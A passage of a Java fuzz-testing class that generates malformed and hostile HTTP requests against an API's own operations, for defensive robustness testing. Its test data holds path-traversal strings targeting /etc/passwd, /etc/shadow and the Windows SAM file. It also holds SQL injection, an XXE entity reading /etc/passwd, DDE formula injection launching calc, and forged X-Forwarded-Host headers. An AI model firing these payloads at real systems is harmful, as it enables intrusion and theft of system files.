package org.vidcase.fuzz;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.UUID;
import java.util.function.Function;

/**
 * Generates the malformed and hostile inputs of one operation, as variations of a valid request
 * built from the operation's schema and real ids. Deterministic: the same seed, document and ids
 * give the same inputs in the same order, so a failure names a request that can be sent again.
 */
final class HostileInputs {

    static final int MINIMUM_PER_OPERATION = 50;
    private static final int TARGET_PER_OPERATION = 56;
    /** Above this, inputs are taken class by class in turn, so that every class stays and the run stays short. */
    static final int MAXIMUM_PER_OPERATION = 80;
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final String PLACEHOLDER = "\u0002FUZZ\u0002";

    private final ApiDocument document;
    private final FixtureIds ids;
    private final SchemaValues values;
    private final long seed;
    /** Counts the files made for the current operation, so each valid file is new and the sequence repeatable. */
    private long files;
    /** While an operation's inputs are made, its valid request is made once and varied. */
    private ApiOperation generating;
    private HttpRequestSpec generatingValid;

    HostileInputs(ApiDocument document, FixtureIds ids, long seed) {
        this.document = document;
        this.ids = ids;
        this.seed = seed;
        this.values = new SchemaValues(document, ids, Long.toString(Math.abs(seed) % 10_000, 36).toUpperCase(Locale.ROOT));
    }

    /** The valid request of an operation: real ids in the path, required query parameters, a valid body. */
    HttpRequestSpec valid(ApiOperation op) {
        if (op == generating && generatingValid != null) {
            return generatingValid;
        }
        HttpRequestSpec request = HttpRequestSpec.of(op.method(), target(op, Map.of(), validQuery(op)))
                .withHeader("Accept", op.produces().isEmpty() ? "application/json" : op.produces().get(0));
        if (takesDocument(op)) {
            return request.withBody("application/json", bytes(validJson(op)));
        }
        if (!op.bodies().isEmpty()) {
            String type = FileBodies.preferredType(op);
            String contentType = type.startsWith("multipart/") ? FileBodies.multipartType() : concrete(type);
            return request.withBody(contentType, FileBodies.valid(op, type, queryValue(op, "format"), nextFile(op)));
        }
        return request;
    }

    /** A JSON document described by its fields, rather than a file that happens to be JSON (a VICS export). */
    boolean takesDocument(ApiOperation op) {
        return op.jsonBody().map(schema -> document.resolve(schema).has("properties")).orElse(false);
    }

    private long nextFile(ApiOperation op) {
        return seed * 1_000_003L + op.id().hashCode() * 7919L + ++files;
    }

    private String queryValue(ApiOperation op, String name) {
        for (ApiOperation.Parameter parameter : op.queryParameters()) {
            if (parameter.name().equals(name) && parameter.required()) {
                JsonNode value = values.valid(parameter.schema());
                return value.asText();
            }
        }
        return null;
    }

    List<FuzzInput> generate(ApiOperation op) {
        SplittableRandom random = new SplittableRandom(seed ^ op.id().hashCode());
        files = 0;
        generating = null;
        HttpRequestSpec base = valid(op);
        generating = op;
        generatingValid = base;
        try {
            return generateFrom(op, random);
        } finally {
            generating = null;
            generatingValid = null;
        }
    }

    private List<FuzzInput> generateFrom(ApiOperation op, SplittableRandom random) {
        Builder inputs = new Builder(op);
        inputs.add(InputClass.VALID, "the valid request", valid(op));
        pathParameters(op, inputs, random);
        queryParameters(op, inputs, random);
        if (takesDocument(op)) {
            jsonBodies(op, inputs, random);
        }
        if (op.takesFiles()) {
            FileBodies.hostile(op, this, inputs, random, nextFile(op));
        }
        if (op.bodies().isEmpty()) {
            unexpectedBodies(op, inputs);
        }
        headers(op, inputs);
        while (inputs.size() < TARGET_PER_OPERATION) {
            randomQuery(op, inputs, random);
        }
        return inTurn(inputs.list(), MAXIMUM_PER_OPERATION);
    }

    /** At most {@code limit} inputs: the first of each class, then the second of each, ...; in their order of generation. */
    static List<FuzzInput> inTurn(List<FuzzInput> all, int limit) {
        if (all.size() <= limit) {
            return all;
        }
        Map<InputClass, List<FuzzInput>> byClass = new java.util.EnumMap<>(InputClass.class);
        all.forEach(input -> byClass.computeIfAbsent(input.inputClass(), c -> new ArrayList<>()).add(input));
        java.util.Set<FuzzInput> chosen = java.util.Collections.newSetFromMap(new java.util.IdentityHashMap<>());
        for (int round = 0; chosen.size() < limit; round++) {
            for (List<FuzzInput> ofClass : byClass.values()) {
                if (round < ofClass.size() && chosen.size() < limit) {
                    chosen.add(ofClass.get(round));
                }
            }
        }
        return all.stream().filter(chosen::contains).toList();
    }

    // --- path parameters ------------------------------------------------------------------------

    private void pathParameters(ApiOperation op, Builder inputs, SplittableRandom random) {
        List<ApiOperation.Parameter> parameters = op.pathParameters();
        for (int p = 0; p < parameters.size(); p++) {
            ApiOperation.Parameter parameter = parameters.get(p);
            String real = ids.pathValue(op.path(), parameter.name()).orElse(unknownId(parameter.name()));
            boolean uuid = parameter.schema().path("format").asText().equals("uuid");
            FuzzInput.Expect missing = uuid ? FuzzInput.Expect.NOT_FOUND : FuzzInput.Expect.MAY_PASS;
            FuzzInput.Expect refused = FuzzInput.Expect.REFUSED;
            FuzzInput.Expect may = FuzzInput.Expect.MAY_PASS;
            List<Object[]> hostile = new ArrayList<>();
            hostile.add(new Object[] {InputClass.PATH_PARAMETER, "not an id", ascii("not-a-uuid"), missing});
            hostile.add(new Object[] {InputClass.PATH_PARAMETER, "an unknown id", ascii(uuid(random)), missing});
            ids.foreignPathValue(op.path(), parameter.name()).ifPresent(foreign -> hostile.add(new Object[] {
                    InputClass.PATH_PARAMETER, "another unit's id", ascii(foreign), FuzzInput.Expect.NOT_FOUND}));
            hostile.add(new Object[] {InputClass.PATH_PARAMETER, "the nil UUID",
                    ascii("00000000-0000-0000-0000-000000000000"), missing});
            hostile.add(new Object[] {InputClass.PATH_PARAMETER, "the real id in upper case",
                    ascii(real.toUpperCase(Locale.ROOT)), may});
            hostile.add(new Object[] {InputClass.PATH_PARAMETER, "the real id with a matrix parameter",
                    ascii(real + ";jsessionid=1"), may});
            hostile.add(new Object[] {InputClass.PATH_TRAVERSAL, "an encoded ../../ climb",
                    ascii("..%2F..%2F..%2Fetc%2Fpasswd"), refused});
            // RFC 3986: %2E is a dot, and dot segments are resolved before routing; the result is checked as any path.
            hostile.add(new Object[] {InputClass.PATH_TRAVERSAL, "encoded dots", ascii("%2e%2e"), may});
            hostile.add(new Object[] {InputClass.CONTROL_CHARACTERS, "an encoded NUL after the id", ascii(real + "%00"), refused});
            hostile.add(new Object[] {InputClass.INVALID_UTF8, "percent-encoded bytes that are no UTF-8",
                    ascii("%C3%28%FF%FE"), refused});
            hostile.add(new Object[] {InputClass.INVALID_UTF8, "raw bytes that are no UTF-8",
                    new byte[] {'a', (byte) 0xC3, (byte) 0x28, (byte) 0xFF}, refused});
            hostile.add(new Object[] {InputClass.HUGE_VALUE, "3,000 characters", ascii("9".repeat(3000)), refused});
            hostile.add(new Object[] {InputClass.FORMULA_PREFIX, "a formula", ascii("%3D1%2B1"), refused});
            if (!uuid) {
                hostile.add(new Object[] {InputClass.PATH_PARAMETER, "a script tag", ascii("%3Cscript%3E"), refused});
                hostile.add(new Object[] {InputClass.PATH_PARAMETER, "a quote and SQL", ascii("x%27%20OR%201%3D1--"), refused});
            }
            // Every hostile value for the first parameter, a share of them for the others (they reach the same checks).
            for (int i = 0; i < hostile.size(); i++) {
                if (p > 0 && i % 2 != (p % 2) && i > 2) {
                    continue;
                }
                Object[] h = hostile.get(i);
                inputs.expect((FuzzInput.Expect) h[3], (InputClass) h[0], "{" + parameter.name() + "}: " + h[1],
                        valid(op).withTarget(target(op, Map.of(parameter.name(), (byte[]) h[2]), validQuery(op))));
            }
        }
        if (!parameters.isEmpty()) {
            String path = new String(target(op, Map.of(), List.of()), StandardCharsets.ISO_8859_1);
            inputs.add(InputClass.PATH_TRAVERSAL, "a dot segment in the path",
                    valid(op).withTarget(ascii(path.replaceFirst("/api/", "/api/./"))));
            inputs.add(InputClass.PATH_TRAVERSAL, "a climb out of the path and back",
                    valid(op).withTarget(ascii(path.replaceFirst("/api/([^/]+)/", "/api/$1/../$1/"))));
            inputs.add(InputClass.PATH_TRAVERSAL, "doubled slashes",
                    valid(op).withTarget(ascii(path.replace("/", "//"))));
        }
    }

    // --- query parameters -------------------------------------------------------------------------

    private void queryParameters(ApiOperation op, Builder inputs, SplittableRandom random) {
        for (ApiOperation.Parameter parameter : op.queryParameters()) {
            JsonNode schema = parameter.schema();
            String type = ApiDocument.typeOf(schema);
            String format = schema.path("format").asText();
            boolean bounded = schema.has("minimum") || schema.has("maximum");
            List<Object[]> hostile = new ArrayList<>();
            if (type.equals("integer") || type.equals("number")) {
                hostile.add(new Object[] {InputClass.QUERY_WRONG_TYPE, "a word", "abc", "R"});
                hostile.add(new Object[] {InputClass.QUERY_WRONG_TYPE, "a fraction", "1.5", type.equals("integer") ? "R" : "M"});
                hostile.add(new Object[] {InputClass.QUERY_OUT_OF_RANGE, "negative", "-1", schema.path("minimum").asLong(-1) >= 0 ? "R" : "M"});
                hostile.add(new Object[] {InputClass.QUERY_OUT_OF_RANGE, "2^31", "2147483648", !schema.path("format").asText().equals("int64") || bounded ? "R" : "M"});
                hostile.add(new Object[] {InputClass.QUERY_OUT_OF_RANGE, "2^63", "9223372036854775808", "R"});
                hostile.add(new Object[] {InputClass.HUGE_NUMBER, "a thousand digits", "7".repeat(1000), "R"});
                if (schema.has("maximum")) {
                    hostile.add(new Object[] {InputClass.QUERY_OUT_OF_RANGE, "above the maximum",
                            Long.toString(schema.get("maximum").asLong() + 1), "R"});
                }
            } else if (type.equals("boolean")) {
                hostile.add(new Object[] {InputClass.QUERY_WRONG_TYPE, "yes", "yes", "R"});
                hostile.add(new Object[] {InputClass.QUERY_WRONG_TYPE, "1", "1", "R"});
            } else if (format.equals("uuid")) {
                hostile.add(new Object[] {InputClass.QUERY_WRONG_TYPE, "not a UUID", "not-a-uuid", "R"});
                hostile.add(new Object[] {InputClass.QUERY_WRONG_TYPE, "a UUID with a bad digit",
                        "00000000-0000-0000-0000-00000000000g", "R"});
                hostile.add(new Object[] {InputClass.PATH_PARAMETER, "an unknown id", uuid(random), "M"});
            } else if (format.equals("date-time") || format.equals("date")) {
                hostile.add(new Object[] {InputClass.QUERY_WRONG_TYPE, "a word", "yesterday", "R"});
                hostile.add(new Object[] {InputClass.QUERY_OUT_OF_RANGE, "month 13", "2026-13-45T99:99:99Z", "R"});
                hostile.add(new Object[] {InputClass.QUERY_WRONG_TYPE, "epoch seconds", "1700000000", "R"});
                hostile.add(new Object[] {InputClass.QUERY_OUT_OF_RANGE, "year 99999", "+99999-01-01T00:00:00Z", "M"});
            } else if (schema.has("enum")) {
                hostile.add(new Object[] {InputClass.QUERY_WRONG_TYPE, "not one of the values", "NOT_A_VALUE", "R"});
            }
            hostile.add(new Object[] {InputClass.EMPTY_VALUE, "empty", "", "M"});
            hostile.add(new Object[] {InputClass.CONTROL_CHARACTERS, "NUL, CR, LF and ESC", "a\u0000b\r\nc\u001B", "R"});
            hostile.add(new Object[] {InputClass.QUERY_HUGE, "3,000 characters", "q".repeat(3000), "M"});
            if (type.equals("string") && !format.equals("uuid") && !schema.has("enum")) {
                hostile.add(new Object[] {InputClass.PATH_TRAVERSAL, "a climb", "../../../../etc/passwd", "M"});
                hostile.add(new Object[] {InputClass.PATH_TRAVERSAL, "a Windows climb", "..\\..\\..\\windows\\win.ini", "M"});
                hostile.add(new Object[] {InputClass.FORMULA_PREFIX, "a formula", "=HYPERLINK(\"http://x.invalid\")", "M"});
                hostile.add(new Object[] {InputClass.CONTROL_CHARACTERS, "a bidi override and zero-width space",
                        "abc\u202Etxt.exe\u200B", "M"});
            }
            for (Object[] h : hostile) {
                List<byte[]> query = replaced(validQuery(op), parameter.name(), enc((String) h[2]));
                inputs.expect("R".equals(h[3]) ? FuzzInput.Expect.REFUSED : FuzzInput.Expect.MAY_PASS, (InputClass) h[0],
                        "?" + parameter.name() + "=: " + h[1], valid(op).withTarget(target(op, Map.of(), query)));
            }
            inputs.refuse(InputClass.INVALID_UTF8, "?" + parameter.name() + "=: percent-encoded bytes that are no UTF-8",
                    valid(op).withTarget(target(op, Map.of(), replaced(validQuery(op), parameter.name(),
                            ascii("%C3%28%ED%A0%80%FF")))));
            inputs.add(InputClass.QUERY_HUGE, "?" + parameter.name() + "= twice, the second malformed",
                    valid(op).withTarget(target(op, Map.of(), appended(validQuery(op), parameter.name(),
                            ascii(type.equals("string") ? "second" : "abc")))));
            if (parameter.required()) {
                inputs.refuse(InputClass.EMPTY_VALUE, "?" + parameter.name() + " left out",
                        valid(op).withTarget(target(op, Map.of(), without(validQuery(op), parameter.name()))));
            }
        }
    }

    private void randomQuery(ApiOperation op, Builder inputs, SplittableRandom random) {
        String[] names = {"page", "size", "q", "caseId", "filter", "__proto__", "id", "format", "debug"};
        String name = names[random.nextInt(names.length)];
        byte[] value;
        InputClass kind;
        String what;
        switch (random.nextInt(6)) {
            case 0 -> {
                value = randomBytesEncoded(random, 1 + random.nextInt(40));
                kind = InputClass.INVALID_UTF8;
                what = "random bytes";
            }
            case 1 -> {
                value = enc(randomUnicode(random, 1 + random.nextInt(30)));
                kind = InputClass.CONTROL_CHARACTERS;
                what = "random characters, controls among them";
            }
            case 2 -> {
                value = enc("../".repeat(1 + random.nextInt(8)) + "etc/shadow");
                kind = InputClass.PATH_TRAVERSAL;
                what = "a climb";
            }
            case 3 -> {
                value = enc(Long.toString(random.nextLong()) + "e" + random.nextInt(1000));
                kind = InputClass.HUGE_NUMBER;
                what = "a huge number";
            }
            case 4 -> {
                value = enc("=+-@\t\r".charAt(random.nextInt(6)) + "cmd|' /C calc'!A0");
                kind = InputClass.FORMULA_PREFIX;
                what = "a formula";
            }
            default -> {
                value = enc("x".repeat(500 + random.nextInt(2500)));
                kind = InputClass.QUERY_HUGE;
                what = "thousands of characters";
            }
        }
        List<byte[]> query = new ArrayList<>(validQuery(op));
        query.add(concat(ascii(name + "="), value));
        inputs.add(kind, "?" + name + "= (a parameter the operation may not have): " + what,
                valid(op).withTarget(target(op, Map.of(), query)));
    }

    // --- JSON bodies --------------------------------------------------------------------------------

    private void jsonBodies(ApiOperation op, Builder inputs, SplittableRandom random) {
        JsonNode schema = document.resolve(op.jsonBody().get());
        ObjectNode base = validJson(op);
        HttpRequestSpec valid = valid(op);
        List<String> fields = new ArrayList<>();
        schema.path("properties").fieldNames().forEachRemaining(fields::add);
        List<String> textFields = fields.stream()
                .filter(f -> ApiDocument.typeOf(values.property(schema, f)).equals("string")
                        && !values.property(schema, f).has("enum")
                        && !values.property(schema, f).path("format").asText().equals("uuid"))
                .toList();
        Function<byte[], HttpRequestSpec> json = body -> valid.withBody("application/json", body);

        // Malformed documents.
        byte[] whole = bytes(base);
        inputs.refuse(InputClass.MALFORMED_JSON, "cut off in the middle", json.apply(java.util.Arrays.copyOf(whole, whole.length / 2)));
        inputs.refuse(InputClass.MALFORMED_JSON, "cut off before its last brace", json.apply(java.util.Arrays.copyOf(whole, whole.length - 1)));
        inputs.refuse(InputClass.MALFORMED_JSON, "a trailing comma", json.apply(ascii(text(base).replaceFirst("}$", ",}"))));
        if (text(base).contains("\"")) {
            inputs.refuse(InputClass.MALFORMED_JSON, "single quotes", json.apply(utf8(text(base).replace('"', '\''))));
        }
        inputs.refuse(InputClass.MALFORMED_JSON, "a comment", json.apply(utf8("/* hi */" + text(base))));
        inputs.refuse(InputClass.MALFORMED_JSON, "two documents", json.apply(utf8(text(base) + text(base))));
        inputs.refuse(InputClass.MALFORMED_JSON, "NaN", json.apply(ascii("{\"" + first(fields, "x") + "\": NaN}")));
        inputs.refuse(InputClass.MALFORMED_JSON, "an unquoted key", json.apply(ascii("{" + first(fields, "x") + ": 1}")));
        inputs.refuse(InputClass.MALFORMED_JSON, "a lone brace", json.apply(ascii("{")));
        inputs.refuse(InputClass.MALFORMED_JSON, "a bare word", json.apply(ascii("hello")));

        // Wrong types, for each field (first six) and for the document itself.
        for (String field : fields.subList(0, Math.min(6, fields.size()))) {
            String type = ApiDocument.typeOf(values.property(schema, field));
            JsonNode wrong = switch (type) {
                case "string" -> NODES.numberNode(42);
                case "integer", "number" -> NODES.textNode("42");
                case "boolean" -> NODES.textNode("true");
                case "array" -> NODES.textNode("not a list");
                default -> NODES.arrayNode().add(1);
            };
            inputs.refuse(InputClass.WRONG_TYPE, field + ": " + wrong, json.apply(bytes(with(base, field, wrong))));
            inputs.refuse(InputClass.WRONG_TYPE, field + ": an object", json.apply(bytes(with(base, field,
                    NODES.objectNode().put("nested", true)))));
        }
        inputs.refuse(InputClass.WRONG_TYPE, "the document is an array", json.apply(ascii("[" + text(base) + "]")));
        inputs.refuse(InputClass.WRONG_TYPE, "the document is a string", json.apply(ascii("\"" + first(fields, "x") + "\"")));
        inputs.refuse(InputClass.WRONG_TYPE, "the document is a number", json.apply(ascii("12345")));

        // Unknown fields, server-set ones among them (mass assignment).
        for (String unknown : List.of("id", "createdBy", "caseId", "__proto__")) {
            if (!fields.contains(unknown)) {
                inputs.refuse(InputClass.UNKNOWN_FIELD, "unknown field " + unknown,
                        json.apply(bytes(with(base, unknown, NODES.textNode("00000000-0000-0000-0000-000000000001")))));
            }
        }
        if (!fields.isEmpty()) {
            String f = fields.get(0);
            inputs.refuse(InputClass.UNKNOWN_FIELD, "the first field's name in upper case",
                    json.apply(bytes(with(without(base, f), f.toUpperCase(Locale.ROOT), base.path(f)))));
        }

        // Huge and empty values.
        for (String field : textFields.subList(0, Math.min(2, textFields.size()))) {
            inputs.add(InputClass.HUGE_VALUE, field + ": 100,000 characters",
                    json.apply(bytes(with(base, field, NODES.textNode("A".repeat(100_000))))));
            inputs.add(InputClass.EMPTY_VALUE, field + ": empty", json.apply(bytes(with(base, field, NODES.textNode("")))));
            inputs.add(InputClass.EMPTY_VALUE, field + ": blank", json.apply(bytes(with(base, field, NODES.textNode(" \t ")))));
        }
        for (String field : fields) {
            if (ApiDocument.typeOf(values.property(schema, field)).equals("array")) {
                ArrayNode many = NODES.arrayNode();
                JsonNode element = base.path(field).size() > 0 ? base.path(field).get(0) : NODES.textNode(uuid(random));
                for (int i = 0; i < 20_000; i++) {
                    many.add(element);
                }
                inputs.add(InputClass.HUGE_VALUE, field + ": 20,000 elements", json.apply(bytes(with(base, field, many))));
                inputs.add(InputClass.EMPTY_VALUE, field + ": []", json.apply(bytes(with(base, field, NODES.arrayNode()))));
                inputs.add(InputClass.NULL_VALUE, field + ": [null]", json.apply(bytes(with(base, field, NODES.arrayNode().addNull()))));
                break;
            }
        }
        inputs.refuse(InputClass.HUGE_VALUE, "a body over the 1 MB limit",
                json.apply(bytes(with(base, first(textFields, "padding"), NODES.textNode("B".repeat(1_100_000))))));
        inputs.add(InputClass.HUGE_VALUE, "a field name of 5,000 characters",
                json.apply(bytes(with(base, "k".repeat(5000), NODES.numberNode(1)))));
        inputs.add(InputClass.EMPTY_VALUE, "an empty object", json.apply(ascii("{}")));
        inputs.add(InputClass.EMPTY_VALUE, "an empty body", json.apply(new byte[0]));
        inputs.add(InputClass.EMPTY_VALUE, "only whitespace", json.apply(ascii(" \r\n\t ")));

        // Nulls.
        inputs.add(InputClass.NULL_VALUE, "the document is null", json.apply(ascii("null")));
        for (String field : fields.subList(0, Math.min(4, fields.size()))) {
            inputs.add(InputClass.NULL_VALUE, field + ": null", json.apply(bytes(with(base, field, NODES.nullNode()))));
        }

        // Control characters and text that is no valid Unicode; accepted text must be stored as sent.
        String target = first(textFields, null);
        if (target != null) {
            inputs.refuse(InputClass.CONTROL_CHARACTERS, target + ": a NUL", json.apply(bytes(with(base, target,
                    NODES.textNode("before\u0000after")))));
            inputs.add(InputClass.CONTROL_CHARACTERS, target + ": C0 controls and DEL", json.apply(bytes(with(base, target,
                    NODES.textNode(values.freshUnique(target, "a\u0001\u0007\u001B[31m\u007Fz"))))));
            inputs.add(InputClass.CONTROL_CHARACTERS, target + ": a bidi override and zero-width characters",
                    json.apply(bytes(with(base, target, NODES.textNode(values.freshUnique(target, "photo\u202Egpj.exe\u200B\uFEFF"))))));
            inputs.add(InputClass.CONTROL_CHARACTERS, target + ": CR LF", json.apply(bytes(with(base, target,
                    NODES.textNode(values.freshUnique(target, "line one\r\nline two"))))));
            inputs.refuse(InputClass.CONTROL_CHARACTERS, target + ": a lone high surrogate (\\ud800)",
                    json.apply(raw(base, target, ascii("\"lone \\ud800 surrogate\""))));
            inputs.refuse(InputClass.CONTROL_CHARACTERS, target + ": a lone low surrogate (\\udc00)",
                    json.apply(raw(base, target, ascii("\"lone \\udc00 surrogate\""))));
            inputs.add(InputClass.CONTROL_CHARACTERS, target + ": astral characters (emoji)", json.apply(bytes(with(base, target,
                    NODES.textNode(values.freshUnique(target, "\uD83D\uDCF7 \uD835\uDD4F")))))); 
            inputs.add(InputClass.CONTROL_CHARACTERS, "a byte-order mark before the document",
                    json.apply(concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, whole)));
            for (byte[] invalid : List.of(new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xC0, (byte) 0xAF},
                    new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0xFF, (byte) 0xFE},
                    new byte[] {(byte) 0xE2, (byte) 0x82})) {
                inputs.refuse(InputClass.INVALID_UTF8, target + ": bytes " + HttpRequestSpec.printable(invalid, 40),
                        json.apply(raw(base, target, concat(concat(ascii("\"a"), invalid), ascii("b\"")))));
            }
            for (String climb : List.of("../../../../etc/passwd", "..\\..\\..\\windows\\system32\\config\\sam",
                    "/etc/passwd", "file:///etc/passwd")) {
                inputs.add(InputClass.PATH_TRAVERSAL, target + ": " + climb,
                        json.apply(bytes(with(base, target, NODES.textNode(values.freshUnique(target, climb))))));
            }
            for (String prefix : List.of("=", "+", "-", "@", "\t", "\r")) {
                inputs.add(InputClass.FORMULA_PREFIX, target + ": begins with " + HttpRequestSpec.printable(ascii(prefix), 8),
                        json.apply(bytes(with(base, target, NODES.textNode(values.freshUnique(target,
                                prefix + "HYPERLINK(\"http://x.invalid/?\"&A1,\"open\")"))))));
            }
        }

        // Deep nesting, huge numbers, duplicate keys.
        inputs.refuse(InputClass.DEEP_NESTING, "100,000 open brackets", json.apply(ascii("[".repeat(100_000))));
        inputs.refuse(InputClass.DEEP_NESTING, "a field nested 5,000 objects deep",
                json.apply(raw(base, first(fields, "x"), ascii("{\"a\":".repeat(5000) + "1" + "}".repeat(5000)))));
        inputs.refuse(InputClass.DEEP_NESTING, "a field nested 900 arrays deep",
                json.apply(raw(base, first(fields, "x"), ascii("[".repeat(900) + "]".repeat(900)))));
        String numeric = fields.stream().filter(f -> List.of("integer", "number")
                .contains(ApiDocument.typeOf(values.property(schema, f)))).findFirst().orElse(first(fields, "x"));
        boolean integral = ApiDocument.typeOf(values.property(schema, numeric)).equals("integer");
        for (String number : List.of("1e400", "-1e400", "1e-400", "18446744073709551616", "0.5", "-0", "1".repeat(1200))) {
            boolean refused = number.equals("1e400") || number.equals("-1e400") || number.length() > 100
                    || integral && !number.equals("-0");
            inputs.expect(refused ? FuzzInput.Expect.REFUSED : FuzzInput.Expect.MAY_PASS, InputClass.HUGE_NUMBER,
                    numeric + ": " + (number.length() > 30 ? number.length() + " digits" : number),
                    json.apply(raw(base, numeric, ascii(number))));
        }
        if (base.fieldNames().hasNext()) {
            String f = base.fieldNames().next();
            String firstValue = JSON.valueToTree(base.path(f)).toString();
            inputs.refuse(InputClass.DUPLICATE_KEY, f + " twice, different values", json.apply(utf8(
                    text(base).replaceFirst("^\\{", "{\"" + f + "\": " + (base.path(f).isTextual() ? "\"other\"" : "null") + ","))));
            inputs.refuse(InputClass.DUPLICATE_KEY, f + " twice, the same value", json.apply(utf8(
                    text(base).replaceFirst("^\\{", "{\"" + f + "\": " + firstValue + ","))));
        }

        // Bodies without a length, and of other types.
        inputs.refuse(InputClass.CHUNKED_BODY, "the valid body, chunked", valid.chunkedBody());
        inputs.refuse(InputClass.CHUNKED_BODY, "2 MB, chunked", json.apply(bytes(with(base, first(textFields, "padding"),
                NODES.textNode("C".repeat(2_000_000))))).chunkedBody());
        inputs.refuse(InputClass.WRONG_CONTENT_TYPE, "text/plain", valid.withBody("text/plain", whole));
        inputs.refuse(InputClass.WRONG_CONTENT_TYPE, "XML", valid.withBody("application/xml",
                ascii("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>")));
        inputs.refuse(InputClass.WRONG_CONTENT_TYPE, "a form", valid.withBody("application/x-www-form-urlencoded",
                ascii(first(fields, "x") + "=1")));
        inputs.refuse(InputClass.WRONG_CONTENT_TYPE, "no Content-Type", valid.withBody(null, whole));
        inputs.add(InputClass.WRONG_CONTENT_TYPE, "UTF-16 as declared", valid.withBody("application/json; charset=UTF-16",
                text(base).getBytes(StandardCharsets.UTF_16)));
        inputs.refuse(InputClass.WRONG_CONTENT_TYPE, "a nonsense type", valid.withBody("json", whole));
    }

    private void unexpectedBodies(ApiOperation op, Builder inputs) {
        HttpRequestSpec valid = valid(op);
        inputs.add(InputClass.WRONG_CONTENT_TYPE, "a JSON body the operation does not take",
                valid.withBody("application/json", ascii("{\"id\": \"x\", \"owner\": \"admin\"}")));
        inputs.add(InputClass.CHUNKED_BODY, "a chunked body the operation does not take",
                valid.withBody("application/json", ascii("{\"a\": 1}")).chunkedBody());
        inputs.add(InputClass.HUGE_VALUE, "a 1.1 MB body the operation does not take",
                valid.withBody("application/octet-stream", new byte[1_100_000]));
    }

    private void headers(ApiOperation op, Builder inputs) {
        HttpRequestSpec valid = valid(op);
        inputs.expect(FuzzInput.Expect.PROTOCOL_LIMIT, InputClass.QUERY_HUGE, "a request line of 9,000 characters",
                valid.withTarget(concat(valid.target(), ascii((valid.targetText().contains("?") ? "&" : "?")
                        + "pad=" + "p".repeat(9000)))));
        inputs.expect(FuzzInput.Expect.PROTOCOL_LIMIT, InputClass.HOSTILE_HEADER, "a header of 30,000 characters",
                valid.withHeader("X-Padding", "h".repeat(30_000)));
        inputs.add(InputClass.HOSTILE_HEADER, "Accept: application/xml", valid.withoutHeader("Accept").withHeader("Accept", "application/xml"));
        inputs.add(InputClass.HOSTILE_HEADER, "X-HTTP-Method-Override: DELETE", valid.withHeader("X-HTTP-Method-Override", "DELETE"));
        inputs.add(InputClass.HOSTILE_HEADER, "X-Request-Id of 2,000 characters and a climb",
                valid.withHeader("X-Request-Id", "../../" + "r".repeat(2000)));
        inputs.add(InputClass.HOSTILE_HEADER, "X-Forwarded-For and X-Forwarded-Host of an attacker",
                valid.withHeader("X-Forwarded-For", "10.0.0.1, 127.0.0.1").withHeader("X-Forwarded-Host", "evil.invalid"));
        if (valid.body() != null) {
            inputs.add(InputClass.HOSTILE_HEADER, "Content-Encoding: gzip on a plain body",
                    valid.withHeader("Content-Encoding", "gzip"));
        }
    }

    // --- the valid request -----------------------------------------------------------------------

    ObjectNode validJson(ApiOperation op) {
        JsonNode value = values.valid(op.jsonBody().orElseThrow());
        return value.isObject() ? (ObjectNode) value : NODES.objectNode();
    }

    List<byte[]> validQuery(ApiOperation op) {
        List<byte[]> query = new ArrayList<>();
        for (ApiOperation.Parameter parameter : op.queryParameters()) {
            if (parameter.required()) {
                JsonNode value = values.valid(parameter.schema());
                String text = value.isTextual() ? value.asText() : value.toString();
                if (parameter.name().toLowerCase(Locale.ROOT).contains("name") && !text.contains(".")) {
                    text = "IMG_0001.jpg";
                }
                query.add(concat(ascii(parameter.name() + "="), enc(text)));
            }
        }
        return query;
    }

    /** The request target: path with real ids or the given raw segments, then the query. */
    byte[] target(ApiOperation op, Map<String, byte[]> pathValues, List<byte[]> query) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (String segment : op.path().substring(1).split("/")) {
            out.write('/');
            if (segment.startsWith("{") && segment.endsWith("}")) {
                String name = segment.substring(1, segment.length() - 1);
                byte[] raw = pathValues.get(name);
                out.writeBytes(raw != null ? raw : enc(ids.pathValue(op.path(), name).orElse(unknownId(name))));
            } else {
                out.writeBytes(ascii(segment));
            }
        }
        for (int i = 0; i < query.size(); i++) {
            out.write(i == 0 ? '?' : '&');
            out.writeBytes(query.get(i));
        }
        return out.toByteArray();
    }

    // --- helpers -------------------------------------------------------------------------------

    /** Collects inputs with their class and description. */
    final class Builder {
        private final ApiOperation op;
        private final List<FuzzInput> inputs = new ArrayList<>();

        Builder(ApiOperation op) {
            this.op = op;
        }

        void add(InputClass kind, String description, HttpRequestSpec request) {
            inputs.add(new FuzzInput(kind, description, request, FuzzInput.Expect.MAY_PASS));
        }

        void expect(FuzzInput.Expect expect, InputClass kind, String description, HttpRequestSpec request) {
            inputs.add(new FuzzInput(kind, description, request, expect));
        }

        void refuse(InputClass kind, String description, HttpRequestSpec request) {
            inputs.add(new FuzzInput(kind, description, request, FuzzInput.Expect.REFUSED));
        }

        void notFound(InputClass kind, String description, HttpRequestSpec request) {
            inputs.add(new FuzzInput(kind, description, request, FuzzInput.Expect.NOT_FOUND));
        }

        int size() {
            return inputs.size();
        }

        List<FuzzInput> list() {
            return List.copyOf(inputs);
        }

        ApiOperation operation() {
            return op;
        }
    }

    /** An id no fixture has, the same for a name every time. */
    private static String unknownId(String name) {
        return UUID.nameUUIDFromBytes(name.getBytes(StandardCharsets.UTF_8)).toString();
    }

    private static String uuid(SplittableRandom random) {
        return new UUID(random.nextLong(), random.nextLong()).toString();
    }

    static String concrete(String contentType) {
        return contentType.equals("image/*") ? "image/png" : contentType;
    }

    private static List<byte[]> replaced(List<byte[]> query, String name, byte[] value) {
